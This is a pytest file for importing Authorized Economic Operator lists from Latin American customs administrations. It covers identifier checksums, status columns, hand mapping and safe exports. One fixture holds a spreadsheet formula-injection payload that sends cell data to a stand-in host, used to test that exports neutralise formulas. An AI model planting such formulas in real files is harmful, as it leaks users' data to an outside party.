"""Lists as each administration publishes them: shipped profiles, national identifiers checked as
their administrations define them, status columns never left out, mapping by hand, and exports that
never run as formulas."""

from __future__ import annotations

import csv
from datetime import date

import pytest
from aeo_list_files import write_csv, write_xlsx
from openpyxl import load_workbook

from cadena_client.domain.model import AEOType, CertificateStatus, InputError
from cadena_client.lists import files as aeo_files
from cadena_client.lists import identifiers, imports, profiles

COUNTRIES = ["AR", "BO", "BR", "CL", "CO", "CR", "DO", "EC", "GT", "MX", "PE", "PY", "UY"]

# Identifiers as each administration writes them: valid, and the same with one character changed.
IDENTIFIERS = {
    "AR": ("30-70721287-6", "30-70721287-5"),  # CUIT, mod 11
    "BR": ("33.414.297/0001-90", "33.414.297/0001-91"),  # CNPJ, two check digits
    "CL": ("76.123.456-0", "76.123.456-K"),  # RUT, mod 11 with K
    "CO": ("900.123.456-8", "900.123.456-7"),  # NIT with DV
    "CR": ("3-101-123456", "9-101-123456"),  # cédula jurídica: class digit
    "DO": ("131000703", "131000704"),  # RNC
    "EC": ("1790011674001", "1790011675001"),  # RUC
    "GT": ("576937-K", "576937-9"),  # NIT, mod 11 with K
    "MX": ("EPA180101AB1", "EPA181301AB1"),  # RFC: length and shape (no 13th month)
    "PE": ("20100070970", "20100070971"),  # RUC
    "PY": ("80000519-8", "80000519-7"),  # RUC
    "UY": ("211003420017", "211003420018"),  # RUT
    "BO": ("1020703023", "10207A3023"),  # NIT: digits only (no published check digit)
}


def mapping(code: str, **options) -> aeo_files.Mapping:
    return aeo_files.Mapping.build(code, **options)


def test_every_member_of_the_regional_arrangement_and_mexico_and_ecuador_has_a_profile():
    assert profiles.shipped_countries() == COUNTRIES
    for code in COUNTRIES:
        profile = profiles.shipped(code)
        assert profile.country == code and profile.national_id and profile.statuses and profile.examples


@pytest.mark.parametrize("code", COUNTRIES)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_list_in_each_countrys_shape_imports_as_it_is(tmp_path, code, fmt):
    profile = profiles.shipped(code)
    path = tmp_path / f"oea-{code}.{fmt}"
    path.write_bytes(aeo_files.country_template(profile, fmt))
    table = aeo_files.read(path, mapping=mapping(code))
    checked = imports.check(table, code, today=date(2026, 12, 1))
    assert not checked.problems, checked.problems
    assert set(table.how.values()) <= {f"profile {code}"}  # every column found through the profile's names
    by_tin = {entry.master.tin: entry for entry in checked.entries}
    for example in profile.examples:
        tin = identifiers.to_tin(example["tin"], code, profile.national_id)
        entry = by_tin[tin]
        assert entry.status == profile.statuses[imports.key_of(example["status"])]
        assert imports.parse_types(example["aeo_types"], profile) & ~entry.master.aeo_types == 0


def test_rows_of_one_company_become_one_certificate_with_the_union_of_its_types(tmp_path):
    path = tmp_path / "oea-br.csv"
    path.write_bytes(aeo_files.country_template(profiles.shipped("BR"), "csv"))
    checked = imports.check(aeo_files.read(path, mapping=mapping("BR")), "BR")
    (merged,) = checked.merged
    assert merged.master.tin == "BR33414297000190" and (merged.row, merged.merged) == (2, (3,))
    assert merged.master.aeo_types == AEOType.AEO_S | AEOType.AEO_C | AEOType.IMPORTER | AEOType.EXPORTER
    assert merged.master.address == "" and merged.master.expiry is None  # Brazil publishes neither
    assert len(checked.entries) == 2


@pytest.mark.parametrize("code", sorted(IDENTIFIERS))
def test_national_identifiers_are_checked_as_their_administration_defines_them(code):
    valid, mutated = IDENTIFIERS[code]
    national = profiles.shipped(code).national_id
    tin = identifiers.to_tin(valid, code, national)
    assert tin.startswith(code) and tin[2:].isalnum()
    assert identifiers.to_tin(tin, code, national) == tin  # already a TIN: read as one
    with pytest.raises(InputError, match=f"not a (valid )?{national.name}"):
        identifiers.to_tin(mutated, code, national)


def test_malformed_and_foreign_identifiers_are_refused_with_their_rows(tmp_path):
    grid = [
        ["RFC", "Razón Social", "Domicilio", "Rubro", "Fecha de Autorización", "Estatus"],
        ["EPA180101AB1", "Bien S.A.", "Calle 1", "Importador y/o Exportador", "01/02/2024", "Vigente"],
        ["MX-12 34", "Corto S.A.", "Calle 2", "Importador y/o Exportador", "01/02/2024", "Vigente"],
        ["PE20100070970", "Peruana S.A.C.", "Calle 3", "Importador y/o Exportador", "01/02/2024", "Vigente"],
        ["EPA18*101AB1", "Raro S.A.", "Calle 4", "Importador y/o Exportador", "01/02/2024", "Vigente"],
    ]
    checked = imports.check(aeo_files.read(write_csv(tmp_path / "oea.csv", grid), mapping=mapping("MX")), "MX")
    assert [entry.master.tin for entry in checked.entries] == ["MXEPA180101AB1"]
    problems = {problem.row: problem.message for problem in checked.problems}
    assert set(problems) == {3, 4, 5}
    assert "'MX-12 34': it is not a valid RFC" in problems[3]
    assert "carries the prefix PE of Peru; a list of MX holds only MX's RFCs" in problems[4]
    assert "holds '*'" in problems[5]


@pytest.mark.parametrize("written", ["2,01001E+10", "2.01001e+10", "3.34143E13"])
def test_an_identifier_a_spreadsheet_wrote_in_scientific_notation_is_refused(written):
    with pytest.raises(InputError, match="scientific notation: the spreadsheet lost the identifier's digits"):
        identifiers.to_tin(written, "PE", profiles.shipped("PE").national_id)


def test_serial_dates_written_with_the_profiles_decimal_mark():
    assert aeo_files.parse_date("45366,0", decimal=",") == aeo_files.parse_date("45366.0") == date(2024, 3, 15)
    with pytest.raises(InputError, match="is not a date"):
        aeo_files.parse_date("45366,0")  # a comma is no decimal mark where the profile says "."


def test_a_left_out_column_of_status_words_is_an_error_not_a_note(tmp_path):
    """The trial's list: its status column had a name the importer did not know, and its twelve
    suspended operators were imported as active."""
    rows = [
        [f"{ruc}", f"Operador {n}", "Lima", "Exportador", "15/03/2024", "Suspendido" if n < 12 else "Certificado"]
        for n, ruc in enumerate(_rucs(15))
    ]
    grid = [["RUC", "Razón Social", "Dirección", "Tipo de Operador", "Fecha de Certificación", "Estado OEA PE"], *rows]
    path = write_csv(tmp_path / "oea.csv", grid)
    with pytest.raises(InputError) as info:
        aeo_files.read(path, mapping=mapping("PE", all_active=True))
    assert "the column 'Estado OEA PE' holds statuses (Suspendido, Certificado)" in str(info.value)
    assert "--map status='Estado OEA PE'" in str(info.value)
    checked = imports.check(aeo_files.read(path, mapping=mapping("PE", maps=("status=Estado OEA PE",))), "PE")
    statuses = [entry.status for entry in checked.entries]
    assert statuses.count(CertificateStatus.SUSPENDED) == 12 and statuses.count(CertificateStatus.ACTIVE) == 3


@pytest.mark.parametrize("word", ["Suspenso", "Excluído", "Vigente", "Calificado", "Revogado"])
def test_status_words_of_any_profile_are_recognised_in_a_left_out_column(tmp_path, word):
    grid = [["RFC", "Razón Social", "Rubro", "Fecha de Autorización", "Estatus", "Observación"]]
    grid += [["EPA180101AB1", "A", "Agente Aduanal", "01/02/2024", "Vigente", word]]
    with pytest.raises(InputError, match="the column 'Observación' holds statuses"):
        aeo_files.read(write_csv(tmp_path / "oea.csv", grid), mapping=mapping("MX"))


def test_a_list_without_a_status_column_imports_only_with_all_active(tmp_path):
    grid = [["CNPJ", "Razão Social", "Modalidade", "Data da Certificação"]]
    grid += [["33.414.297/0001-90", "Café Paulista", "OEA-Pleno", "15/03/2024"]]
    path = write_csv(tmp_path / "oea.csv", grid)
    with pytest.raises(InputError, match="no column for Status .* or --all-active if every row"):
        aeo_files.read(path, mapping=mapping("BR"))
    table = aeo_files.read(path, mapping=mapping("BR", all_active=True))
    assert table.assumed == {"status": "Active (--all-active)"}
    (entry,) = imports.check(table, "BR").entries
    assert entry.status == CertificateStatus.ACTIVE and entry.master.aeo_types == AEOType.AEO_S | AEOType.AEO_C


def test_mapping_by_hand_columns_words_and_default_types(tmp_path):
    grid = [
        ["Identificación", "Nombre comercial registrado", "Dirección", "Giro", "Alta", "Condición del operador"],
        ["20100070970", "Andina S.A.C.", "Lima", "Despacho", "2024-03-15", "De baja"],
        ["20131312955", "Callao S.A.", "Callao", "Exportador", "2024-03-16", "Certificado"],
    ]
    path = write_csv(tmp_path / "oea.csv", grid)
    with pytest.raises(InputError, match="the column 'Condición del operador' holds statuses"):
        aeo_files.read(path, mapping=mapping("PE"))
    with pytest.raises(InputError) as info:
        aeo_files.read(path, mapping=mapping("PE", maps=("status=Condición del operador",)))
    message = str(info.value)
    assert "no column for Operator name: closest headers 'Nombre comercial registrado'" in message
    assert "give --map name='Nombre comercial registrado'" in message and "\n" not in message
    chosen = mapping(
        "PE",
        maps=("tin=Identificación", "name=Nombre comercial registrado", "valid_from=Alta", "aeo_types=Giro"),
        map_values=("status:De baja=cancelled", "aeo_types:Despacho=customs-broker"),
    )
    with pytest.raises(InputError, match="'Condición del operador' holds statuses"):  # "Certificado" is one
        aeo_files.read(path, mapping=chosen)
    chosen = aeo_files.Mapping(chosen.profile, {**chosen.columns, "status": "Condición del operador"})
    table = aeo_files.read(path, mapping=chosen)
    assert table.how == {**dict.fromkeys(table.columns, "--map"), "address": "profile PE"}
    assert table.tin_form == "either"
    first, second = imports.check(table, "PE").entries
    assert (first.master.tin, first.status, first.master.aeo_types) == (
        "PE20100070970",
        CertificateStatus.CANCELLED,
        AEOType.CUSTOMS_BROKER,
    )
    assert second.status == CertificateStatus.ACTIVE and second.master.aeo_types == AEOType.EXPORTER
    no_types = [[row[0], row[1], row[2], row[4], row[5]] for row in grid]
    path = write_csv(tmp_path / "sin-tipos.csv", no_types)
    defaulted = mapping(
        "PE",
        maps=("tin=Identificación", "name=Nombre comercial registrado", "valid_from=Alta"),
        map_values=("status:De baja=cancelled",),
        default_types="exporter,aeo-s",
    )
    defaulted = aeo_files.Mapping(defaulted.profile, {**defaulted.columns, "status": "Condición del operador"})
    table = aeo_files.read(path, mapping=defaulted)
    assert table.assumed == {"aeo_types": "exporter, aeo-s"}
    assert {entry.master.aeo_types for entry in imports.check(table, "PE").entries} == {
        AEOType.EXPORTER | AEOType.AEO_S
    }


def test_a_users_profile_extends_the_shipped_one(tmp_path):
    (tmp_path / "mine.toml").write_text(
        'extends = "CO"\n[headers]\nname = ["Nombre del usuario aduanero"]\n'
        '[statuses]\ncancelled = ["Autorización perdida"]\n[types]\n"Usuario Operador de Zona Franca" = "warehouse"\n',
        encoding="utf-8",
    )
    grid = [["NIT", "Nombre del usuario aduanero", "Tipo de Usuario", "Fecha de Autorización", "Estado"]]
    grid += [
        ["900.123.456-8", "Zona Franca Bogotá", "Usuario Operador de Zona Franca", "01/02/2024", "Autorización perdida"]
    ]
    table = aeo_files.read(
        write_xlsx(tmp_path / "oea.xlsx", grid), mapping=mapping("CO", profile_file=tmp_path / "mine.toml")
    )
    (entry,) = imports.check(table, "CO").entries
    assert (entry.master.tin, entry.status, entry.master.aeo_types) == (
        "CO9001234568",
        CertificateStatus.CANCELLED,
        AEOType.WAREHOUSE,
    )
    assert table.mapping.profile.source == "mine.toml"
    (tmp_path / "bad.toml").write_text('extends = "PE"\n', encoding="utf-8")
    with pytest.raises(InputError, match="extends the profile of PE, but the list is CO's"):
        mapping("CO", profile_file=tmp_path / "bad.toml")


def test_an_export_reimported_does_not_warn_again_about_rows_it_marks_expired(tmp_path):
    row = {
        "country": "MX",
        "tin": "MXEPA180101AB1",
        "name": "A",
        "address": "B",
        "aeo_types": ["importer"],
        "valid_from": "2018-01-01",
        "expiry": "2021-01-01",
        "status": "Expired",
        "holder": None,
    }
    for fmt in aeo_files.FORMATS:
        path = tmp_path / f"export.{fmt}"
        path.write_bytes(aeo_files.write([row, {**row, "tin": "MXEPB180101AB1", "status": "Active"}], fmt))
        checked = imports.check(aeo_files.read(path), "MX", today=date(2026, 12, 1))
        (warning,) = checked.warnings  # only the row saying Active
        assert not checked.problems and "MXEPB180101AB1 is marked active but expired" in warning.message


DANGEROUS = {
    "name": '=HYPERLINK("http://evil.example/?d="&B3,"Click")',
    "address": "@SUM(1+1)",
}


@pytest.mark.parametrize(
    "name,address",
    [
        (DANGEROUS["name"], DANGEROUS["address"]),
        ("+1 Logística", "-5 Calle"),
        ("'=ya con apóstrofo", "\tTab"),
        ("'t Hooft Transport", "'Calle' 5"),
    ],
)
def test_exports_write_formulas_as_text_and_read_back_exactly(tmp_path, name, address):
    row = {
        "country": "MX",
        "tin": "MXEPA180101AB1",
        "name": name,
        "address": address,
        "aeo_types": ["importer"],
        "valid_from": "2024-01-01",
        "expiry": "",
        "status": "Active",
        "holder": None,
    }
    xlsx, text = tmp_path / "oea.xlsx", tmp_path / "oea.csv"
    xlsx.write_bytes(aeo_files.write([row], "xlsx"))
    text.write_bytes(aeo_files.write([row], "csv"))
    sheet = load_workbook(xlsx).active  # formulas as formulas (not data_only)
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert all(cell.data_type != "f" for cell in cells)
    assert {sheet.cell(2, 3).value, sheet.cell(2, 4).value} == {name.strip() or name, address}
    with text.open(encoding="utf-8", newline="") as handle:
        written = [cell for line in csv.reader(handle) for cell in line]
    assert not [cell for cell in written if cell[:1] in ("=", "@", "+", "-", "\t", "\r")]
    for path in (xlsx, text):
        (entry,) = imports.check(aeo_files.read(path), "MX").entries
        assert (entry.master.name, entry.master.address) == (" ".join(name.split()), " ".join(address.split()))


def _rucs(count: int) -> list[str]:
    """`count` valid Peruvian RUCs of companies."""
    from stdnum.pe import ruc

    return [f"20{n:08d}" + ruc.calc_check_digit(f"20{n:08d}") for n in range(100000, 100000 + count)]


def test_the_plan_prints_the_mapping_it_used(tmp_path):
    from rich.console import Console

    from cadena_client.cli.list_import import mapping_document, print_mapping

    path = tmp_path / "oea-br.csv"
    path.write_bytes(aeo_files.country_template(profiles.shipped("BR"), "csv"))
    table = aeo_files.read(path, mapping=mapping("BR"))
    checked = imports.check(table, "BR")
    out = Console(record=True, width=200)
    print_mapping(out, table, checked, path)
    text = out.export_text()
    assert "Columns of oea-br.csv (the shipped profile of BR)" in text and "Modalidade" in text
    assert "33.414.297/0001-90" in text and "BR33414297000190" in text
    assert "rows 2, 3 are one company, BR33414297000190: one certificate for importer, exporter, aeo-s, aeo-c" in text
    document = mapping_document(table, checked)
    assert document["merged"] == [
        {"tin": "BR33414297000190", "rows": [2, 3], "aeo_types": ["importer", "exporter", "aeo-s", "aeo-c"]}
    ]
    assert document["columns"]["status"] == {"header": "Situação", "found_by": "profile BR"}
